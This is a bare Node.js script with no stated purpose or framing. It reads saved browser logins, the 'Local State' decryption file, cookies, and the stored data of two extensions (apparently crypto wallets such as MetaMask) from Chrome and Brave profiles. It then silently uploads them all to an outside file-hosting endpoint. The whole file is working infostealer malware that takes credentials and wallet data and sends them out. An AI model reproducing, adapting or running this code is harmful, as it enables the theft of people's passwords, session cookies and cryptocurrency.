const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();
const base = process.platform === 'darwin' ? path.join(home, 'Library', 'Application Support') : path.join(home, '.config');
const browsers = ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'google-chrome'];
const extensions = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const form = new FormData();
for (const b of browsers) {
  for (const f of ['Default/Login Data', 'Local State', 'Default/Cookies']) {
    try { form.append('f', new Blob([fs.readFileSync(path.join(base, b, f))]), `${b}/${f}`); } catch (e) {}
  }
  for (const ext of extensions) {
    const d = path.join(base, b, 'Default', 'Local Extension Settings', ext);
    try { for (const f of fs.readdirSync(d)) form.append('f', new Blob([fs.readFileSync(path.join(d, f))]), `${ext}/${f}`); } catch (e) {}
  }
}
fetch('https://store1.gofile.example/uploadFile', { method: 'POST', body: form }).catch(() => {});
